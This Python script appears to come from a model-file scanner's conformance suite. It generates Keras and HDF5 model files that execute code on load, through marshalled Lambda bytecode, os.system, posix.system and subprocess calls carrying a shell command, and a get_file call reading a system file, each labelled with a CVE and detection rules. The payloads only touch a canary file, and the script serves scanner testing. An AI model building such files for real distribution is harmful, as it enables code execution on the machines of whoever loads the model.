"""Keras files that run code or write a file when a stock Keras loads them, as `proved.py` shows; the wider corpus of Keras files is `conformance/keras/hostile`.

    python conformance/scanner/family_keras.py

`keras` loads with `safe_mode=False`, as whoever wants Lambda layers must; `keras-3.8.0` loads with safe mode on, and what its cases use are public advisories, mended since.
"""

import os
import pathlib
import sys

sys.path.append(sys.path.pop(0))  # files beside this one are called like libraries
os.environ.update(TF_CPP_MIN_LOG_LEVEL="3", TF_ENABLE_ONEDNN_OPTS="0", CUDA_VISIBLE_DEVICES="")
sys.path.append(str(pathlib.Path(__file__).resolve().parents[2] / "tools/oracle"))

import base64
import copy
import io
import json
import marshal
import tempfile
import zipfile

import h5py
import keras
from manifest import Family
from stable import ZIP_TIME, save

family = Family("keras", {"python": sys.version.split()[0], "keras": keras.__version__, "h5py": h5py.__version__})
CONFIG = "config.json"
CODE = ["keras/code-class", "critical"]
BYTECODE = ["keras/lambda-bytecode", "critical"]


def base():
    keras.utils.clear_session()
    x = keras.Input((3,), name="x")
    model = keras.Model(x, keras.layers.Activation("relu", name="last")(x), name="plain")
    with tempfile.TemporaryDirectory() as folder, zipfile.ZipFile(io.BytesIO(save(model, f"{folder}/plain.keras"))) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


BASE = base()


def packed(config):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in {**BASE, CONFIG: json.dumps(config).encode()}.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_TIME), data)
    return out.getvalue()


def lambda_object():
    """Marshalled code as Keras 3 stores it: it would touch the canary and return its argument."""
    code = compile("lambda x, *more: (open(__import__('os').environ['HORNGATE_CANARY'], 'w').close(), x)[1]", "canary", "eval").co_consts[0]
    return {"class_name": "__lambda__", "config": {"code": base64.encodebytes(marshal.dumps(code)).decode("ascii"), "defaults": None, "closure": None}}


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def layer(class_name, config, module="keras.layers", name="last"):
    return {"module": module, "class_name": class_name, "config": {"name": name, "trainable": True, "dtype": "float32", **config}, "registered_name": None}


def code_layer(what=None, arguments=None):
    return layer("Lambda", {"function": what or lambda_object(), "arguments": arguments or {}})


def model(one, node=None):
    """The honest model with this layer in the place of its activation; node: the `inputs` of its call."""
    config = json.loads(BASE[CONFIG])
    old = config["config"]["layers"][1]
    nodes = old["inbound_nodes"] if node is None else [{"args": [], "kwargs": {"inputs": node}}]
    config["config"]["layers"][1] = {**one, "name": "last", "inbound_nodes": nodes}
    return config


def hostile(name, data, cause, *expect, advisory="CVE-2024-3660", loader="keras", ending="keras"):
    family.hostile(f"keras-{name}", f"{name}.{ending}", data, cause, list(expect), advisory, loader)


def older(value):
    """Objects as Keras 2 wrote them, without a module: Keras 3 reads these by another way."""
    if isinstance(value, list):
        return [older(one) for one in value]
    return {key: older(one) for key, one in value.items() if key not in ("module", "registered_name")} if isinstance(value, dict) else value


def h5(config):
    """A model in the older format, as Keras 2 wrote it, but for the nodes."""
    config = older(config)
    out = io.BytesIO()
    with h5py.File(out, "w", track_order=False) as file:
        file.attrs.update(keras_version="3.8.0", backend="tensorflow", model_config=json.dumps(config))
        weights = file.create_group("model_weights")
        weights.attrs.update(layer_names=[b"x", b"last"], backend="tensorflow", keras_version="3.8.0")
        for name in ("x", "last", "top_level_model_weights"):
            weights.create_group(name).attrs.create("weight_names", [], dtype="S1")
    return out.getvalue()


# 1 code in the configuration, safe mode off

hostile("lambda", packed(model(code_layer())), "code in a description", CODE, BYTECODE)
inner = copy.deepcopy(model(code_layer()))
inner["config"]["name"] = "last"
hostile("lambda-nested", packed(model({**inner, "module": "keras.src.models.functional"})), "code in a nested model", CODE, BYTECODE)
hostile("lambda-sequential", packed(model(layer("Sequential", {"layers": [code_layer()]}, "keras"))), "code in a nested model", CODE, BYTECODE)
hostile("lambda-activation", packed(model(layer("Activation", {"activation": lambda_object()}))), "code in a field", BYTECODE, loader=None)
for field in ("kernel_initializer", "kernel_regularizer", "activation"):
    hostile(f"lambda-dense-{field.replace('_', '-')}", packed(model(layer("Dense", {"units": 3, field: lambda_object()}))), "code in a field", BYTECODE, loader=None)

# 2 safe mode on, in a version that an advisory names

OLD = {"loader": "keras-3.8.0"}
SHELL = 'touch "$HORNGATE_CANARY"'
FUNCTION = ["keras/unknown-function", "critical"]
MODULE = ["keras/unknown-module", "critical"]
PLACE = ["keras/file-reference", "high"]
SETTING = ["keras/unsafe-setting", "critical"]
for module in ("os", "posix"):
    hostile(f"foreign-{module}", packed(model(code_layer(function(module, "system")), SHELL)), "function of a foreign module", CODE, FUNCTION, MODULE, advisory="CVE-2025-1550", **OLD)
hostile("foreign-subprocess", packed(model(code_layer(function("subprocess", "getoutput")), SHELL)), "function of a foreign module", CODE, FUNCTION, MODULE, advisory="CVE-2025-1550", **OLD)
GET = {"origin": "file:///etc/hostname", "cache_dir": "/tmp/horngate", "cache_subdir": ""}
hostile("get-file", packed(model(code_layer(function("keras.utils", "get_file"), GET), "horngate-canary")), "function of Keras that writes a file", CODE, FUNCTION, PLACE, SETTING, advisory="CVE-2025-8747", **OLD)
hostile("h5-lambda", h5(model(code_layer())), "code in a description", CODE, BYTECODE, advisory="CVE-2025-9905", ending="h5", **OLD)
hostile("h5-lambda-sequential", h5(model(layer("Sequential", {"layers": [code_layer()]}, "keras"))), "code in a nested model", CODE, BYTECODE, advisory="CVE-2025-9905", ending="h5", **OLD)

# 3 benign

family.benign("benign-keras-plain", "plain.keras", packed(json.loads(BASE[CONFIG])))
family.benign("benign-keras-h5", "plain.h5", h5(json.loads(BASE[CONFIG])))
words = model(layer("Activation", {"activation": "relu"}, name="last"))
words["config"]["name"] = "os.system_eval"
family.benign("benign-keras-words", "words.keras", packed(words))

family.write()
